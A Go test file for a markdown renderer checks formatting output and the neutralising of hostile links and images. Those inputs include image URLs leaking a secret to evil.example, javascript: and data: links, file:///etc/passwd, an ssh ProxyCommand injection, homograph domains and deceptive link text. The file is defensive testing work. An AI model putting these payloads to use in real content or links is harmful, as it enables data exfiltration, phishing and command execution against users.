package markdown

import "testing"

// TestReads says what each construct reads like.
func TestReads(t *testing.T) {
	for in, want := range map[string]string{
		"un**bold**able *it* ~~gone~~ `co*d*e`":         `text "un" b"bold" "able " i"it" " " s"gone" " " m"co*d*e"`,
		"***both***":                                    `text bi"both"`,
		"soft\nwrap":                                    `text "soft wrap"`,
		"hard  \nbreak\\\nagain":                        `text "hard" br "break" br "again"`,
		"&amp; &copy; &#35; &lt;b&gt; &unknown; a&ampb": `text "& © # <b> &unknown; a&ampb"`,
		"\\* \\&amp; \\a":                               `text "* &amp; \\a"`,
		"# One":                                         `text1 "One"`,
		"One\n===":                                      `text1 "One"`,
		"---":                                           `rule`,
		"> q\n> - l":                                    "text in q \"q\"\ntext in ql mark • \"l\"",
		"- a\n- b":                                      "text in l mark • \"a\"\ntext in l mark • close \"b\"",
		"9. a\n10. b":                                   "text in 2 mark 9. \"a\"\ntext in 2 mark 10. close \"b\"",
		"- [x] a\n- [ ] b":                              "text in l mark [x] \"a\"\ntext in l mark [ ] close \"b\"",
		"- - a":                                         "text in l mark •\ntext in ll mark • close \"a\"",
		"-":                                             "text in l mark •",
		"```go x\na\tb\n```":                            `code "go" "a\tb"`,
		"    a":                                         `code "" "a"`,
		"|a|b|\n|:-:|-:|\n|`x\\|y`|":                    "table\n  |^ \"a\" |> \"b\"\n  |^ m\"x|y\" |>",
		"<b>x</b> <!-- c -->":                           `text "<b>x</b> <!-- c -->"`,
		"<script>\n\nalert(1)":                          "text \"<script>\"\ntext \"alert(1)\"",
		"a\u202eb\u200bc\x1bd \xff &#x202e; \x00": `text "a\\u202eb\\u200bc\\x1bd \\xff \\u202e \\x00"`,
		"e\u0301\u0301\u0301\u0301\u0301":         "text \"e\u0301\u0301\u0301\"",
	} {
		if got := read(in); got != want+"\n" {
			t.Errorf("%q reads\n%swant\n%s", in, got, want)
		}
	}
}

// TestLinks says what links and images read like: rows R01 to R05 of the
// attacks, and more of their kind.
func TestLinks(t *testing.T) {
	for in, want := range map[string]string{
		"![ok](https://evil.example/p.png?leak=SECRET)":  `q"[image blocked: evil.example]"`,
		"![a][r]\n\n[r]: https://evil.example/?d=S":      `q"[image blocked: evil.example]"`,
		"![x](file:///home/u/secret.png)":                `q"[image blocked: file]"`,
		"![x](data:image/png;base64,AA)":                 `q"[image blocked: data]"`,
		"![x](../secret.svg)":                            `q"[image blocked]"`,
		"![x](//evil.example/a)":                         `q"[image blocked]"`,
		"[![x](https://a.example/i)](https://b.example)": `q"[image blocked: a.example]" " " "b.example"<https://b.example>`,
		"<img src=https://evil.example/x>":               `"<img src=https://evil.example/x>"`,

		"[a][r]\n\n[r]: https://evil.example/?d=S": `"a"<https://evil.example/?d=S> q" (evil.example)"`,
		"[a](https://b.example:8080/c)":            `"a"<https://b.example:8080/c> q" (b.example:8080)"`,
		"[*a*](https://b.example)":                 `i"a"<https://b.example> q" (b.example)"`,
		"[](https://b.example)":                    `"b.example"<https://b.example>`,
		"[Open](file:///usr/bin/xcalc)":            `"Open" q" (file: not opened)"`,
		"[x](javascript:alert(1))":                 `"x" q" (javascript: not opened)"`,
		"[x](JaVaScRiPt:alert(1))":                 `"x" q" (javascript: not opened)"`,
		"[x](java&#10;script:alert)":               `"x" q" (its address cannot be read)"`,
		"[x](data:text/html,a)":                    `"x" q" (data: not opened)"`,
		"[y](ssh://-oProxyCommand=calc)":           `"y" q" (ssh: not opened)"`,
		"[x](/etc/passwd)":                         `"x" q" (not a web address)"`,
		"[x](//evil.example)":                      `"x" q" (not a web address)"`,
		"[x](https://)":                            `"x" q" (its address has no host)"`,
		"[x](<https://a\\\\b.example>)":            `"x" q" (its address has characters that cannot be seen)"`,
		"[x](https://bank.example@evil.example/)":  `"x" q" (evil.example, not opened: it names a user)"`,
		"[x](HTTPS://EVIL.example)":                `"x"<https://evil.example> q" (evil.example)"`,

		"[https://bank.example](https://evil.example)":           `"evil.example"<https://evil.example>`,
		"[www.bank.example](https://evil.example)":               `"evil.example"<https://evil.example>`,
		"[bank.example](https://evil.example)":                   `"evil.example"<https://evil.example>`,
		"[go to bank.example.](https://evil.example)":            `"evil.example"<https://evil.example>`,
		"[ba**nk.exam**ple](https://evil.example)":               `"evil.example"<https://evil.example>`,
		"[bank。example](https://evil.example)":                   `"evil.example"<https://evil.example>`,
		"[me@bank.example](https://evil.example)":                `"evil.example"<https://evil.example>`,
		"[127.0.0.1](https://evil.example)":                      `"evil.example"<https://evil.example>`,
		"[https://a.example/b](https://a.example/c)":             `"a.example"<https://a.example/c>`,
		"[https://a.example/b](https://a.example/b)":             `"https://a.example/b"<https://a.example/b>`,
		"[a.example](https://a.example/)":                        `"a.example"<https://a.example/>`,
		"[README.md](https://github.com/a/b/README.md)":          `"README.md"<https://github.com/a/b/README.md> q" (github.com)"`,
		"[bank.example](https://evil.example/bank.example)":      `"evil.example"<https://evil.example/bank.example>`,
		"[bank.com](https://evil.example/x/bank.com)":            `"bank.com"<https://evil.example/x/bank.com> q" (evil.example)"`,
		"[https://bank.example](javascript:x)":                   `q"(link: javascript: not opened)"`,
		"[https://b\u0430nk.example](https://b\u0430nk.example)": `"xn--bnk-6cd.example"<https://xn--bnk-6cd.example>`,

		"<https://a.example/b>":             `"https://a.example/b"<https://a.example/b>`,
		"<https://b\u0430nk.example/login>": `"https://xn--bnk-6cd.example/login"<https://xn--bnk-6cd.example/login>`,
		"<javascript:alert(1)>":             `"javascript:alert(1)" q" (javascript: not opened)"`,
		"<file:///etc/passwd>":              `"file:///etc/passwd" q" (file: not opened)"`,
		"see https://a.example/b.":          `"see " "https://a.example/b"<https://a.example/b> "."`,
		"www.a.example":                     `"www.a.example"<http://www.a.example>`,
		"me@a.example":                      `"me@a.example"`,
	} {
		if got := read(in); got != "text "+want+"\n" {
			t.Errorf("%q reads\n%swant\ntext %s", in, got, want)
		}
	}
}
